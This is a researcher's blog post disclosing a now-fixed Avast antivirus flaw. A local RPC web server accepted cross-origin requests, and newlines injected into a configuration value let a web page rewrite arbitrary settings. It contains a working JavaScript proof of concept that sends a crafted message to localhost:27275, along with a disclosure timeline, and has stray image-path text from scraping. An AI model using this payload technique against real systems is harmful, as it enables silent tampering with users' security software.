Pwning your antivirus, part 1: fun with Avast! RPC calls

Just yesterday, Tavis Ormandy from Google's Project Zero published some interesting findings he'd made in Avast antivirus. He had spotted an open RPC endpoint in one of the services, was able to figure out how to use it to launch the "Avastium" browser, an Avast fork of Chromium. He then went on to build an exploit for the browser, ending up with read access to the local filesystem.

This post is not about Tavis' findings. They're just a funny coincidence--if you can call a serious security issue funny. No, this post is about a closely related finding I made myself a couple of weeks ago, right before Avast managed to release a fix for it; or rather, a fix for the issues Tavis had identified, but also happened to fix this one.


If you've read my blog before, or otherwise know me, you'll know that I like to do a bit of hacking now and then. About two weeks ago I had the idea of making Avast's free antivirus software my next target. I noticed they had a bug bounty program, so if I actually found something, it'd be a total win-win. I grabbed the installer, set up the default installation, and started poking around.

I started by going through as much of the basic functionality as possible and mapping out an attack surface. I noticed Avast had a Chrome extension for things like content filtering and web reputation features. That became natural starting point for my first attempt: I've written Chrome extensions myself, so I'm familiar with the APIs and tools, and since they are mainly built with JavaScript and HTML, there's no need tobreak out IDA Pro right away.

Reading the code and observing network traffic, I quickly spotted a web server running on localhost:27275. It was used for passing data between the extension and the native "back-end" services. The protocol was some kind of a binary format wrapped in HTTP; as it turns out from Tavis' research, the exact format was binary protobuf. I didn't bother figuring out the exact protocol, as I found the content of the messages more interesting. I was seeing two types of messages:

Both were sent as POST requests to http://localhost:27275/command. The former seemed to just contain some kind of version information, and didn't appear very interesting. The latter, however, was very promising. I reversed the protocol enough to figure out that the first four bytes of the message contained a byte indicating an RPC command (position 0x01) and another indicating the length of the string parameter (positon 0x03). The bytes at positions 0x00 and 0x02 seemed to be constant, as did the two bytes at the end of the message.

This is where my findings start to differ from the ones Tavis made: he apparently decided to enumerate all the possible RPC commands to see if there was anything else available, whereas I immediately had my eye on the avastcfg:// part. I mean, it's some kind of a URI for accessing--and editing--the configuration of your antivirus software. There has to be something nasty you can do with it!

Turned out there wasn't. I looked up some configuration options and tried changing them via an RPC call, but none of it worked. The calls were being validated in the native code, and only changing that one property was allowed. And the property being something about sharing data with Avast, it wasn't very interesting.

There wassomething interesting though: even though the name of the configuration property was being validated, the value wasn't! I was able to set avastcfg://avast5/Common/PropertyDataSharing=foo, then query for the value, and get foo back! Still not much, though, as long as the value was handled otherwise correctly.

I remembered seeing an option earlier for exporting your Avast configuration to a file. Maybe I could get an invalid PropertyDataSharing value exported to a file, and then trigger something when the same file was imported back to Avast. Getting a bit complicated and hard to exploit, I know, but it's still something. I figured I'd have a go.The Avast export format is a .zip archive with a bunch of .ini configuration files in it. And as I'd thought, the PropertyDataSharingvalue was stored inside one of them, even when it was set to something bogus. Now, what would happen if I injected a newline into the value?

Success! Newlines weren't being encoded or escaped in anyway inside .ini files. I was able to set arbitrary properties in the exported configs, and importing them back to Avast worked too! It was still pretty difficult to exploit, though.

After I'd exported and imported some crafted values a couple of times in a row, I noticed something strange: some of the configuration settings I'd injected started to appear in the exported file way more times in a row than they should have. It was like the import wasn't the only phase where they got injected. In fact, exporting and importing the configuration wasn't necessary at all! Apparently Avast was using the same .ini format internally, and had the same issue there! So now I was able to change arbitrary settings in Avast simply by handing the victim a malicious link. All that was left was building a nice PoC that would handle it automatically:

<script> var payload = "NetAlert=SMTP:attacker@example.com"; var url = "http://localhost:27275/command"; var message = "avastcfg://avast5/Common/PropertyDataSharing=0" + "\r\n" + payload; message = message.split("").map(function (s) { return s.charCodeAt(0); }); message = [ 0x08, 0x0e, 0x12, message.length ].concat(message); message = message.concat([ 0x18, 0x03 ]); message = new Uint8Array(message); var xhr = new XMLHttpRequest();xhr.open("POST", url, false); xhr.send(message); </script>

The script above makes a cross-origin XMLHttpRequest to the RPC endpoint and configures an SMTP alert. Changing the payload, it should be possible to do pretty much anything you can from the Avast UI. Pretty neat, huh?

I reached out to Avast with the PoC, and quickly got a reply. They stated they were aware that the localhost HTTP server has issues; someone (Tavis) had reported a similar vulnerability in December. A fix was already planned and ready, and a release scheduled for about a week from then! Easily the quickest reaction from a vendor I've ever seen, even if they did have a head start!Even though they were already aware of the issues with the RPC endpoint, the newline injection part was new to them. They decided on a $2000 bounty, which is not bad at all for an evening of messing around with some HTTP APIs. All in all, the response was great, and the issue is now fixed. If you're running Avast, I suggest installing the update ASAP.


2016-01-24>Initial report
2016-01-26<Acknowledgement from Avast; related issue reported in December, already fixed
2016-01-26>Clarified that the issue is currently exploitable in the latest release
2016-01-26<Confirmation that the fix has not been released yet
2016-02-02<Decision to pay a bounty of $2000
2016-02-03>Request for a status update onthe fix
2016-02-04<Issuefixed, ok to publish detailsNo comments:

Post a Comment